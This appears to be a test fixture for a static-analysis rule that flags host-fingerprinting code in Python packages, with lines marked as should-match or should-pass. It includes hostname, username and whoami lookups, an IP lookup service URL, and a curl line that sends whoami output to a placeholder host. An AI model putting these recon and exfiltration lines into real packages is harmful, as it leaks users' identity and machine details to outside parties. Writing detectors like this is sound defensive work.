# canary-test: path=mypkg/probe.py artifact=wheel
# Every member of recon.host_fingerprint (inert: nothing is sent).
import getpass
import os
import platform
import socket
import subprocess
from socket import gethostname

# ruleid: host_fingerprint, has_host_fingerprint
h = socket.gethostname()
# ruleid: host_fingerprint, has_host_fingerprint
u = getpass.getuser()
# ruleid: host_fingerprint, has_host_fingerprint
n = platform.node()
# ruleid: host_fingerprint, has_host_fingerprint
b = gethostname()
# ruleid: host_fingerprint, has_host_fingerprint
w = os.popen("whoami").read()
# ruleid: host_fingerprint, has_host_fingerprint
c = ["curl", "https://example.invalid/?u=$(whoami)"]
# ruleid: host_fingerprint, has_host_fingerprint
IP_SERVICE = "https://api.ipify.org"
# ok: host_fingerprint, has_host_fingerprint
p = platform.system()
# ok: host_fingerprint, has_host_fingerprint
d = {"hostname": "example.invalid"}
# ok: host_fingerprint, has_host_fingerprint
o = subprocess.check_output(["git", "describe"])
